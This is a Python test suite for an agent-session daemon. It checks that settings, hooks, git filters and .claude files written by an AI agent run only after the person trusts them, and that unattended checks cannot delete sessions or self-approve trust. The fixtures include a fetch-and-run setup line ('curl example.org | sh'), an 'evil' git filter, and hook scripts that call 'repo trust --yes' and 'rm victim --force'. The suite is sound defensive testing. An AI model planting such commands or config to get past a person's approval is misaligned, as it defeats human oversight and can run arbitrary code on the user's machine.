"""Trust is bound to content: files from an agent, a landing or a pull run only once the person has
trusted them."""

import asyncio
import json
import shlex
import sys
import uuid
from collections.abc import Awaitable, Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

import grpc
import pytest
from ramet.v1 import attention_pb2, landing_pb2, repo_pb2, session_pb2, terminal_pb2, worktree_pb2

from tests.support.agents import script
from tests.support.daemon import IDLE, Client, Sandbox, git
from tests.support.eventually import eventually
from tests.support.family import Member, refusal
from tests.support.shared import client, daemon, repository, sandbox

__all__ = ["client", "daemon", "repository", "sandbox"]

SECRET = ".secret"


def settings(marks: Path) -> str:
    """Return a `.ramet.toml` whose commands leave marks, and that carries a secret."""
    commands = {name: f"touch {marks}/{name}" for name in ("setup", "teardown", "web", "check")}
    return (
        f'setup = ["{commands["setup"]}"]\nteardown = ["{commands["teardown"]}"]\ncarry = ["{SECRET}"]\n'
        f'[run]\nweb = "{commands["web"]}"\n[land]\ncheck = "{commands["check"]}"\n'
        '[permissions]\ndefault_mode = "acceptEdits"\n[worktrees]\nbranch_prefix = "evil/"\n'
    )


class World:
    """A trusted repository without commands, an agent's session in it, and the marks of
    commands."""

    def __init__(self, client: Client, sandbox: Sandbox, path: Path) -> None:
        self.client, self.sandbox, self.path = client, sandbox, path
        self.marks = sandbox.root / f"marks-{uuid.uuid4().hex[:6]}"
        self.marks.mkdir()

    async def agent(self, **fields: Any) -> session_pb2.Session:
        return await self.client.create(self.path, name="agent", **fields)

    def write(self, place: Path, *, commit: bool) -> None:
        """Write files as the agent, uncommitted or committed."""
        (place / ".ramet.toml").write_text(settings(self.marks))
        (place / ".worktreeinclude").write_text(f"{SECRET}\n")
        if commit:
            git(place, "add", ".ramet.toml", ".worktreeinclude")
            git(place, "commit", "-qm", "settings")

    async def spawn(self, parent: session_pb2.Session, base: str = "") -> session_pb2.Session:
        spawned = await Member(self.client, self.sandbox, parent.id).spawn(
            script({"text": "hi"}), name="kid", base=base
        )
        return await self.client.reach(spawned.id, IDLE)

    async def create(self, path: Path, **fields: Any) -> session_pb2.Session:
        made = await self.client.create(path, script({"text": "hi"}), name="kid", **fields)
        return await self.client.reach(made.id, IDLE)


async def in_own_commit(world: World) -> session_pb2.Session:
    agent = await world.agent()
    world.write(Path(agent.worktree), commit=True)
    return await world.spawn(agent)


async def in_a_branch_named_as_base(world: World) -> session_pb2.Session:
    agent = await world.agent()
    world.write(Path(agent.worktree), commit=True)
    return await world.spawn(agent, agent.branch)


async def uncommitted_beside_its_child(world: World) -> session_pb2.Session:
    agent = await world.agent()
    world.write(Path(agent.worktree), commit=False)
    return await world.spawn(agent)


async def in_the_persons_checkout(world: World) -> session_pb2.Session:
    agent = await world.agent(in_place=True)
    world.write(Path(agent.worktree), commit=False)
    return await world.spawn(agent)


async def where_the_person_stands(world: World) -> session_pb2.Session:
    agent = await world.agent()
    world.write(Path(agent.worktree), commit=True)
    return await world.create(Path(agent.worktree))


async def in_an_adopted_worktree(world: World) -> session_pb2.Session:
    place = world.path.with_name(f"{world.path.name}-own")
    git(world.path, "worktree", "add", "-q", "-b", "own", str(place))
    agent = await world.client.create(place, name="agent", adopt_path=str(place))
    world.write(place, commit=False)
    return await world.spawn(agent)


async def forked(world: World) -> session_pb2.Session:
    agent = await world.create(world.path)
    world.write(Path(agent.worktree), commit=True)
    request = session_pb2.ForkSessionRequest(session=agent.id, name="fork", prompt=script({"text": "hi"}))
    request.request_id = str(uuid.uuid4())
    made = await world.client.sessions.ForkSession(request, metadata=world.client.metadata)
    return await world.client.reach(made.session.id, IDLE)


async def pulled(world: World) -> session_pb2.Session:
    world.write(world.path, commit=True)
    return await world.create(world.path)


async def landed(world: World) -> session_pb2.Session:
    agent = await world.agent()
    world.write(Path(agent.worktree), commit=True)
    await land(world.client, agent.id)
    assert (world.path / ".ramet.toml").exists()
    return await world.create(world.path)


async def by_a_grandchild(world: World) -> session_pb2.Session:
    agent = await world.agent()
    member = await Member(world.client, world.sandbox, agent.id).spawn(script({"text": "hi"}), name="child")
    child = await world.client.reach(member.id, IDLE)
    world.write(Path(child.worktree), commit=True)
    return await world.spawn(child)


async def by_a_contender(world: World) -> session_pb2.Session:
    made = await asyncio.to_thread(
        world.sandbox.ctl, "new", script({"text": "hi"}), "--agent", "claude:2", "--name", "c", "--json", cwd=world.path
    )
    first, second = [await world.client.reach(each["id"], IDLE) for each in made.json]
    world.write(Path(first.worktree), commit=True)
    world.write(Path(second.worktree), commit=False)
    for verb in (("compare", "c"), ("pick", first.id, "--land", "--json")):
        await asyncio.to_thread(world.sandbox.ctl, *verb, cwd=world.path)
    return await world.spawn(first)


async def synced_with_its_base(world: World) -> session_pb2.Session:
    session = await world.create(world.path)
    agent = await world.agent()
    world.write(Path(agent.worktree), commit=True)
    await land(world.client, agent.id)
    request = worktree_pb2.SyncSessionRequest(session=session.id, request_id=str(uuid.uuid4()))
    await world.client.worktrees.SyncSession(request, metadata=world.client.metadata)
    assert (Path(session.worktree) / ".ramet.toml").exists()
    return session


async def brought_back_by_a_rewind(world: World) -> session_pb2.Session:
    session = await world.create(world.path)
    world.write(Path(session.worktree), commit=False)
    taken = await world.client.worktrees.CreateCheckpoint(
        worktree_pb2.CreateCheckpointRequest(session=session.id), metadata=world.client.metadata
    )
    for name in (".ramet.toml", ".worktreeinclude"):
        (Path(session.worktree) / name).unlink()
    request = worktree_pb2.RewindSessionRequest(session=session.id, checkpoint=taken.checkpoint.id)
    request.request_id = str(uuid.uuid4())
    await world.client.worktrees.RewindSession(request, metadata=world.client.metadata)
    assert (Path(session.worktree) / ".ramet.toml").exists()
    return await world.client.reach(session.id, IDLE)


async def at_a_tag(world: World) -> session_pb2.Session:
    agent = await world.agent()
    world.write(Path(agent.worktree), commit=True)
    git(Path(agent.worktree), "tag", "v9")
    return await world.create(world.path, base_ref="v9")


async def on_a_branch_that_a_pull_request_brought(world: World) -> session_pb2.Session:
    agent = await world.agent()
    world.write(Path(agent.worktree), commit=True)
    git(world.path, "branch", "theirs", agent.branch)
    return await world.create(world.path, existing_branch="theirs")


async def archived_and_changed_meanwhile(world: World) -> session_pb2.Session:
    session = await world.create(world.path)
    await asyncio.to_thread(world.sandbox.ctl, "archive", session.id, cwd=world.path)
    (shelf,) = Path(session.worktree).parent.glob(f".{session.id}*")
    world.write(shelf, commit=False)
    await asyncio.to_thread(world.sandbox.ctl, "restore", session.id, cwd=world.path)
    assert (Path(session.worktree) / ".ramet.toml").exists()
    return await world.client.reach(session.id, IDLE)


async def in_a_spare(world: World) -> session_pb2.Session:
    await asyncio.to_thread(world.sandbox.ctl, "pool", "fill", "--count", "1", cwd=world.path)
    for spare in (world.sandbox.root / "state").rglob(".git"):
        if spare.is_file() and "repo" in str(spare.parent):
            world.write(spare.parent, commit=False)
    return await world.create(world.path)


WAYS: list[Callable[[World], Awaitable[session_pb2.Session]]] = [
    in_own_commit,
    in_a_branch_named_as_base,
    uncommitted_beside_its_child,
    in_the_persons_checkout,
    where_the_person_stands,
    in_an_adopted_worktree,
    forked,
    pulled,
    landed,
    by_a_grandchild,
    by_a_contender,
    synced_with_its_base,
    brought_back_by_a_rewind,
    at_a_tag,
    on_a_branch_that_a_pull_request_brought,
    archived_and_changed_meanwhile,
    in_a_spare,
]


async def land(client: Client, name: str, **fields: Any) -> landing_pb2.Landing:
    await client.landing.LandSessions(
        landing_pb2.LandSessionsRequest(sessions=[name], target="main", **fields), metadata=client.metadata
    )
    request = landing_pb2.WaitLandingsRequest(landings=[name], timeout_seconds=60)
    (done,) = (await client.landing.WaitLandings(request, metadata=client.metadata)).landings
    assert done.state == landing_pb2.LANDING_STATE_LANDED, done.reason
    return done


async def use_everything(world: World, session: session_pb2.Session) -> None:
    """Let the daemon run the session's settings: its turn waits for the setup."""
    metadata = world.client.metadata
    for call in (  # refused if they are not trusted
        world.client.terminals.SetUpSession(terminal_pb2.SetUpSessionRequest(session=session.id), metadata=metadata),
        world.client.terminals.StartCommand(
            terminal_pb2.StartCommandRequest(session=session.id, name="web", request_id=str(uuid.uuid4())),
            metadata=metadata,
        ),
    ):
        with suppress(grpc.aio.AioRpcError):
            await call
    (Path(session.worktree) / "work.txt").write_text("work\n")
    git(Path(session.worktree), "add", "-A")
    git(Path(session.worktree), "commit", "-qm", "work")
    await land(world.client, session.id)


@pytest.fixture
async def world(client: Client, sandbox: Sandbox, repository: Path) -> World:
    (repository / ".gitignore").write_text(f"{SECRET}\n")
    git(repository, "add", ".")
    git(repository, "commit", "-qm", "ignore")
    (repository / SECRET).write_text("password\n")
    await client.trust(repository)
    return World(client, sandbox, repository)


@pytest.mark.parametrize("way", WAYS, ids=lambda way: way.__name__)
async def test_no_command_runs_that_the_person_has_not_trusted(
    world: World, way: Callable[[World], Awaitable[session_pb2.Session]]
) -> None:
    session = await way(world)
    carried = Path(session.worktree) / SECRET
    assert not carried.exists()
    assert not session.branch.startswith("evil/")
    assert session.mode != 2 or way is forked
    await use_everything(world, session)
    await world.client.sessions.DeleteSession(session_pb2.DeleteSessionRequest(session=session.id, force=True))
    assert sorted(each.name for each in world.marks.iterdir()) == []


async def test_they_all_run_once_the_person_has_trusted_them(world: World) -> None:
    world.write(world.path, commit=True)
    await world.client.trust(world.path)
    session = await world.create(world.path)
    assert (Path(session.worktree) / SECRET).read_text() == "password\n"
    assert session.branch.startswith("evil/")
    await use_everything(world, session)
    await world.client.sessions.DeleteSession(session_pb2.DeleteSessionRequest(session=session.id, force=True))
    assert sorted(each.name for each in world.marks.iterdir()) == ["check", "setup", "teardown", "web"]


async def test_a_session_starts_a_child_only_from_what_a_branch_or_tag_has(world: World) -> None:
    agent = await world.agent()
    world.write(Path(agent.worktree), commit=False)
    await world.client.send(agent.id, script({"text": "a turn, so that there is a checkpoint of it"}))
    await eventually(lambda: _refs(world.path, agent.id))
    ref, commit = (await asyncio.to_thread(_refs, world.path, agent.id))[-1]
    git(world.path, "tag", "v1", "main")
    for base in (ref, ref.removeprefix("refs/"), commit, commit[:12], f"{ref}^0", f"{commit}~0"):
        reason, _ = await refusal(world.spawn(agent, base))
        assert reason in {"INVALID_INPUT", "REF_NOT_FOUND"}, base
    assert (await world.spawn(agent, "v1")).base_ref == "v1"


def _refs(path: Path, session: str) -> list[tuple[str, str]]:
    lines = git(path, "for-each-ref", "--format=%(refname) %(objectname)", f"refs/ramet/checkpoints/{session}")
    return [(name, commit) for line in lines.splitlines() for name, _, commit in [line.partition(" ")]]


async def test_commands_of_a_bare_repository_are_those_that_the_person_trusted(
    client: Client, sandbox: Sandbox, repository: Path
) -> None:
    bare = repository.with_name(f"{repository.name}.git")
    git(repository, "clone", "-q", "--bare", str(repository), str(bare))
    world = World(client, sandbox, bare)
    await client.trust(bare)
    agent = await world.client.create(bare, name="agent", existing_branch="main")
    world.write(Path(agent.worktree), commit=True)
    await world.spawn(agent)
    assert list(world.marks.iterdir()) == []
    await client.trust(bare)
    await eventually((world.marks / "setup").exists)


@pytest.mark.parametrize(
    "name",
    [
        ".claude/settings.json",
        ".claude/settings.local.json",
        ".mcp.json",
        ".claude/agents/reviewer.md",
        ".claude/commands/deep/er.md",
        ".claude/skills/some/SKILL.md",
        ".claude/hooks/check.sh",
    ],
)
@pytest.mark.parametrize("known", [True, False], ids=["changed", "new"])
async def test_claude_loads_files_of_a_repository_only_as_they_were_trusted(
    client: Client, sandbox: Sandbox, repository: Path, name: str, known: bool
) -> None:
    (repository / "CLAUDE.md").write_text("be brief\n")
    for each in (".claude/settings.json", *([name] if known else [])):
        put(repository / each, "{}\n")
    git(repository, "add", "-A")
    git(repository, "commit", "-qm", "claude")
    await client.trust(repository)
    session = await client.create(repository, script({"text": "hi"}), name="one")
    await client.reach("one", IDLE)
    assert loads_all(sandbox, session)
    put(Path(session.worktree) / name, '{"hooks": "another"}\n')
    await client.sessions.StopSession(session_pb2.StopSessionRequest(session="one"), metadata=client.metadata)
    await client.send("one", script({"text": "again"}))
    await client.reach("one", IDLE)
    assert not loads_all(sandbox, session)
    (words,) = [each.warning.message for each in await client.log("one") if each.HasField("warning")]
    assert name in words
    assert "rametctl repo trust" in words


def put(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)


def loads_all(sandbox: Sandbox, session: session_pb2.Session) -> bool:
    """Return whether the living agent of a session was started with its repository's own
    settings."""
    (agent,) = [each for each in sandbox.agents() if each.environ().get("RAMET_SESSION") == session.id]
    command = agent.cmdline()
    return "--setting-sources=user" not in command


async def test_what_runs_for_no_session_may_only_look(world: World) -> None:
    """A landing check and the setup of a spare run an agent's code without a session, and so have
    only read rights."""
    ctl, marks = f"{shlex.quote(sys.executable)} -m rametctl", world.marks
    tried = (
        f"env | grep -q ^RAMET_SESS && exit 0; {ctl} ls > {marks}/PLACE-ls; "
        f"{ctl} rm victim --force 2> {marks}/PLACE-rm; {ctl} repo trust --yes 2> {marks}/PLACE-trust; true"
    )
    victim = await world.client.create(world.path, name="victim")
    (world.path / ".ramet.toml").write_text(f"setup = {json.dumps(tried.replace('PLACE', 'spare'))}\n")
    await world.client.trust(world.path)
    for verb in ("drain", "fill"):
        await asyncio.to_thread(world.sandbox.ctl, "pool", verb, cwd=world.path)
    agent = await world.agent()
    (Path(agent.worktree) / "work.txt").write_text("work\n")
    git(Path(agent.worktree), "add", "-A")
    git(Path(agent.worktree), "commit", "-qm", "work")
    await land(world.client, agent.id, check=[tried.replace("PLACE", "check")])
    for place in ("spare", "check"):
        assert "victim" in (marks / f"{place}-ls").read_text()
        for verb in ("rm", "trust"):
            assert (
                "a landing check, a git hook or a spare's setup may not call" in (marks / f"{place}-{verb}").read_text()
            )
    assert (await world.client.get(victim.id)).name == "victim"


async def test_a_landing_says_which_commands_it_changes(world: World) -> None:
    world.write(world.path, commit=True)
    await world.client.trust(world.path)
    agent = await world.agent()
    tree = Path(agent.worktree)
    (tree / ".ramet.toml").write_text('setup = "curl example.org | sh"\n')
    put(tree / ".claude/settings.json", '{"hooks": {}}\n')
    git(tree, "add", "-A")
    git(tree, "commit", "-qm", "settings")
    answer = await world.client.landing.LandSessions(
        landing_pb2.LandSessionsRequest(sessions=[agent.id], target="main"), metadata=world.client.metadata
    )
    (words,) = answer.warnings
    assert "changes setup, .claude/settings.json, withheld until `rametctl repo trust" in words
    assert "removes " in words


async def test_a_change_is_shown_as_a_difference_until_it_is_trusted(world: World) -> None:
    async def ctl(*words: str) -> str:
        return (await asyncio.to_thread(world.sandbox.ctl, *words, cwd=world.path)).stdout

    (world.path / ".ramet.toml").write_text('setup = "make deps"\n')
    await world.client.trust(world.path)
    assert "It has changed" not in await ctl("repo", "show")
    (world.path / ".ramet.toml").write_text('setup = "make evil"\n')
    for shown in (await ctl("repo", "show"), await ctl("repo", "trust", "--yes")):
        assert '-setup = "make deps"' in shown
        assert '+setup = "make evil"' in shown
    assert "It has changed" not in await ctl("repo", "show")


async def test_git_configuration_in_the_checkout_is_shown_and_waits_for_trust(world: World) -> None:
    git(world.path, "config", "include.path", "../.gitconfig")
    # Quoted, as git reads `;` as the begin of a comment.
    text = (
        f'[filter "evil"]\n\tclean = "touch {world.marks}/clean; cat"\n\tsmudge = "touch {world.marks}/smudge; cat"\n'
    )
    (world.path / ".gitconfig").write_text(text)
    (world.path / ".gitattributes").write_text("*.txt filter=evil\n")
    (world.path / "work.txt").write_text("work\n")
    git(world.path, "add", "-A")
    git(world.path, "commit", "-qm", "filter")
    for mark in world.marks.iterdir():
        mark.unlink()
    made = await asyncio.to_thread(world.sandbox.ctl, "new", "--name", "first", cwd=world.path)
    assert "includes .gitconfig with content that you have not trusted" in made.stderr
    assert list(world.marks.iterdir()) == []
    shown = await asyncio.to_thread(world.sandbox.ctl, "repo", "trust", "--yes", cwd=world.path)
    assert "touch" in shown.stdout
    assert ".gitconfig" in shown.stdout
    second = await world.client.create(world.path, name="second")
    assert (world.marks / "smudge").exists()
    tree = Path(second.worktree)
    (tree / ".gitconfig").write_text(text.replace(f"{world.marks}/", f"{world.marks}/landed-"))
    git(tree, "add", ".gitconfig")
    git(tree, "commit", "-qm", "another filter")
    request = landing_pb2.LandSessionsRequest(sessions=["second"], target="main")
    (said,) = (await world.client.landing.LandSessions(request, metadata=world.client.metadata)).warnings
    assert "changes .gitconfig, withheld until" in said
    await eventually(lambda: "landed-" in (world.path / ".gitconfig").read_text())
    await world.client.create(world.path, name="third")
    assert not list(world.marks.glob("landed-*"))


async def test_what_was_not_shown_is_not_trusted(world: World) -> None:
    shown = await world.client.repos.GetTrust(
        repo_pb2.GetTrustRequest(repo=str(world.path)), metadata=world.client.metadata
    )
    world.write(world.path, commit=False)
    request = repo_pb2.UpdateRepoRequest(
        repo_id=shown.repo.id, repo=repo_pb2.Repo(trusted=True), trust_digest=shown.digest
    )
    request.update_mask.paths.append("trusted")
    assert (await refusal(world.client.repos.UpdateRepo(request, metadata=world.client.metadata)))[0] == "WRONG_STATE"
    request.trust_digest = ""
    assert (await refusal(world.client.repos.UpdateRepo(request, metadata=world.client.metadata)))[0] == "INVALID_INPUT"


async def test_a_changed_hook_in_the_checkout_does_not_run_until_the_person_trusts_it(
    client: Client, sandbox: Sandbox, repository: Path
) -> None:
    mark = sandbox.root / "hook-ran"
    hook = repository / ".husky" / "pre-commit"
    hook.parent.mkdir()
    hook.write_text("#!/bin/sh\nexit 0\n")
    hook.chmod(0o755)
    git(repository, "add", ".husky")
    git(repository, "commit", "-qm", "hooks")
    git(repository, "config", "core.hooksPath", ".husky")
    await client.trust(repository)
    stop = f"rametctl stop hooked 2>> {mark} && echo allowed >> {mark}"
    hook.write_text(f"#!/bin/sh\ntouch {mark}; {stop}; rametctl ls >> {mark}\n")  # as a pull or a landing does
    session = await client.create(repository, name="hooked")
    work = Path(session.worktree) / "work.txt"

    for text, ran in (("one", False), ("two", True)):
        work.write_text(text)
        request = landing_pb2.LandSessionsRequest(sessions=["hooked"], target="main", commit_message=text)
        landed = await client.landing.LandSessions(request, metadata=client.metadata)
        assert (mark.exists(), any("pre-commit" in each and "did not run" in each for each in landed.warnings)) == (
            ran,
            not ran,
        )
        await client.trust(repository)
    said = mark.read_text()
    assert "a git hook" in said
    assert "allowed" not in said
    assert "hooked" in said, "it may read"


async def test_the_inbox_has_one_entry_for_each_repository_that_changed_what_was_trusted(
    client: Client, sandbox: Sandbox, repository: Path
) -> None:
    file = repository / ".ramet.toml"

    async def entries() -> list[attention_pb2.AttentionRequest]:
        answer = await client.attention.ListRequests(attention_pb2.ListRequestsRequest(), metadata=client.metadata)
        return [each for each in answer.requests if each.kind == attention_pb2.ATTENTION_KIND_TRUST]

    async def entry(*words: str) -> attention_pb2.AttentionRequest:
        async def look() -> attention_pb2.AttentionRequest:
            found, *more = await entries() or [attention_pb2.AttentionRequest()]
            assert more == []
            assert all(word in found.reason for word in words), found.reason
            return found

        return await eventually(look)

    async def none() -> bool:
        return await entries() == []

    file.write_text('setup = ["true"]\n')
    await client.trust(repository)
    for name in ("one", "two"):
        await client.create(repository, name=name)
    assert await entries() == []

    file.write_text('setup = ["curl evil"]\n')
    first = await entry("setup", '-setup = ["true"]', '+setup = ["curl evil"]', "rametctl repo trust")
    assert "rametctl repo trust repo" in sandbox.ctl("inbox", cwd=repository).stdout
    assert (await client.get(first.session_id)).attention == 0, "it is not the session's"
    refused = sandbox.ctl("approve", first.id, cwd=repository)
    assert (refused.code, "rametctl repo trust repo" in refused.stderr) == (2, True), refused
    assert sandbox.ctl("approve", first.session_name, cwd=repository).code == 3, "a session's name does not mean it"

    file.write_text('setup = ["true"]\n')
    await eventually(none)
    file.write_text('setup = ["make"]\n')
    second = await entry('+setup = ["make"]')
    assert sandbox.ctl("deny", second.id, "-m", "no", cwd=repository).code == 0
    await client.sessions.ArchiveSession(
        session_pb2.ArchiveSessionRequest(session=second.session_id), metadata=client.metadata
    )
    file.write_text('setup = ["make all"]\n')
    third = await entry('+setup = ["make all"]')
    assert third.session_id != second.session_id
    await client.trust(repository)
    assert await entries() == [], "trusted contents need no question any more"
